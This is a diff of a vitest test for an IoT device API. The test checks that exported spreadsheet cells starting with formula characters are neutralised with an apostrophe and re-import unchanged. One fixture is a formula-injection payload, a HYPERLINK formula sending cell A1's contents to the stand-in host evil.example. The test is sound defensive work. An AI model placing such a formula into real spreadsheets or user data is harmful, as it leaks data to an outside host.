@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { DEVICE_SHEET_COLUMNS, ErrorCode, IMPORT_FORMAT_MESSAGE } from '@iot/contract';
-import { readSheet, writeSheet } from '../src/lib/sheet.js';
+import { neutralizeCell, readSheet, writeSheet } from '../src/lib/sheet.js';
 import { bearer, buildTestApp, multipart, type TestApp } from './helpers.js';
 
 const EN = DEVICE_SHEET_COLUMNS.map((c) => c.en);
@@ -91,5 +91,40 @@ describe('bulk device import and export', () => {
     expect(sheet.slice(1).map((r) => r[1])).toEqual(['IMP-ZH-1']);
     const all = readSheet((await t.app.inject({ method: 'GET', url: '/api/v1/device/export', headers: bearer(token) })).rawPayload);
     expect(all).toHaveLength(3);
+  });
+
+  it('neutralises cells that a spreadsheet would run as formulas (OWASP), and re-imports them as written', async () => {
+    const types = (await t.app.inject({ method: 'GET', url: '/api/v1/devicetype/typeoptionslist', headers: bearer(token) })).json().data;
+    const hostile = {
+      name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      sn: 'FORMULA-1',
+      typeId: types[0].id,
+      alarmPhone: '+86 138 0000',
+      remarks: '@SUM(1+1)',
+      description: '-2+3',
+    };
+    const add = await t.app.inject({ method: 'POST', url: '/api/v1/device/add', headers: bearer(token), payload: hostile });
+    expect(add.json().code).toBe(20000);
+    const res = await t.app.inject({ method: 'GET', url: '/api/v1/device/export?q=FORMULA-1&lang=en', headers: bearer(token) });
+    const [header, row] = readSheet(res.rawPayload) as string[][];
+    const cell = (key: string) => row![DEVICE_SHEET_COLUMNS.findIndex((c) => c.key === key)];
+    expect(header![0]).toBe('Device name');
+    expect(cell('name')).toBe(`'${hostile.name}`);
+    expect(cell('alarmPhone')).toBe(`'${hostile.alarmPhone}`);
+    expect(cell('remarks')).toBe(`'${hostile.remarks}`);
+    expect(cell('description')).toBe(`'${hostile.description}`);
+    expect(cell('sn')).toBe('FORMULA-1');
+
+    // Tab and CR starts (trimmed away by the API's text fields) and numbers.
+    expect([neutralizeCell('\tx'), neutralizeCell('\rx'), neutralizeCell(-3), neutralizeCell('a=b')]).toEqual(["'\tx", "'\rx", -3, 'a=b']);
+
+    // The exported file re-imports with the original texts (after deleting the device).
+    const id = add.json().data.id;
+    await t.app.inject({ method: 'DELETE', url: `/api/v1/device/delete?id=${id}`, headers: bearer(token) });
+    const again = multipart('export.xlsx', res.rawPayload);
+    const imported = await t.app.inject({ method: 'POST', url: '/api/v1/device/import', headers: { ...bearer(token), ...again.headers }, payload: again.payload });
+    expect(imported.json().data).toMatchObject({ imported: 1, errors: [] });
+    const back = (await list('&q=FORMULA-1')).items[0];
+    expect(back).toMatchObject({ name: hostile.name, alarmPhone: hostile.alarmPhone, remarks: hostile.remarks, description: hostile.description });
   });
 });
